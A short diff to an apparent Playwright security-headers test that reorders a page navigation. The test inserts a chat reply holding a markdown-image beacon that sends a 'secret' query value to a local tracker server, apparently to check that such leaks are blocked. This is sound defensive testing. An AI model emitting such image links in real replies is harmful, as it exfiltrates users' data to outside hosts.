@@ -111,8 +111,8 @@ test.describe("security headers", () => {
     await new Promise<void>((resolve) => tracker.listen(0, "127.0.0.1", resolve));
     const port = (tracker.address() as { port: number }).port;
     try {
-      await page.goto("/");
       const userId = await sessionUserId(page.request);
+      await page.goto("/");
       const conversationId = await insertConversationWithReply(userId, [
         { type: "text", text: `Here: ![leak](http://localhost:${port}/pixel.png?secret=42) and more.` },
       ]);
